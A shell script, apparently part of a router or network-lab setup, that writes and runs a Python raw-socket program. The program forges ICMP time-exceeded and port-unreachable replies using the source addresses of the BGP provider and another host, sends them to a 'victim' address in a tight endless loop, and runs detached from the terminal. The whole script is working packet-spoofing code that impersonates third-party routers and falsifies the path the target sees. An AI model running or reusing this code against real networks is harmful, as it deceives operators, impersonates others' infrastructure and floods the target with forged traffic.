# The router tells the far end, all the time and in others' names, that its probes have
# come by way of the provider.
set -eu
cat >/tmp/replies.py <<'PYTHON'
import random, socket, struct, sys, time

provider, victim, host = (socket.inet_aton(word) for word in sys.argv[1:])


def checksum(data):
    total = sum(struct.unpack(f">{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def ip(source, goal, protocol, body):
    head = struct.pack(
        ">BBHHHBBH4s4s", 0x45, 0, 20 + len(body), 1, 0, 64, protocol, 0, source, goal
    )
    return head[:10] + struct.pack(">H", checksum(head)) + head[12:] + body


line = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
goal = (socket.inet_ntoa(victim), 0)
while True:
    port = random.randrange(32768, 61000)
    for hop, (source, kind, code) in enumerate(((provider, 11, 0), (host, 3, 3)), 2):
        probe = struct.pack(">HHHH", port, 33433 + hop, 40, 0) + bytes(32)
        body = struct.pack(">BBHI", kind, code, 0, 0) + ip(victim, host, 17, probe)
        body = body[:2] + struct.pack(">H", checksum(body)) + body[4:]
        line.sendto(ip(source, victim, 1, body), goal)
    time.sleep(0.0005)
PYTHON
provider=$(vtysh -c 'show bgp ipv4 unicast summary' | awk '$2 == 4 {print $1; exit}')
setsid -f python3 /tmp/replies.py "$provider" "$REMOTE_HOST4" "$HOST4" >/dev/null 2>&1
sleep 1
pidof python3
